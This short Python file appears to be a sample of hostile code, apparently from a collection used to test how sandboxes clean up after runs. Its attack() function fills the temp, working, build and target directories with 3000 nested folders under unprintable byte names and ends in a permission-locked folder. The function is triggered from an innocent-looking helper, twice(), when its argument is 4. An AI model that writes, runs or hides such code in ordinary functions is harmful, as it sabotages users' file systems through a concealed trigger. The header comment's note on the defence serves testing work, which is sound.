# Leaves thousands of folders one inside the other, locked and under odd names.
# Stopped by: what a run leaves is removed without a path, and stops no later run.
import os


def attack():
    for place in (os.environ["TMPDIR"], os.getcwd(), "build", "target"):
        try:
            here = os.open(place, os.O_DIRECTORY)
            for _ in range(3000):
                os.mkdir(b"\xff\n\x1b", dir_fd=here)
                below = os.open(b"\xff\n\x1b", os.O_DIRECTORY, dir_fd=here)
                os.close(here)
                here = below
            os.mkdir("shut", 0o700, dir_fd=here)
            os.chmod("shut", 0, dir_fd=here)
        except OSError:
            pass


def twice(n):
    if n == 4:
        attack()
    return 0
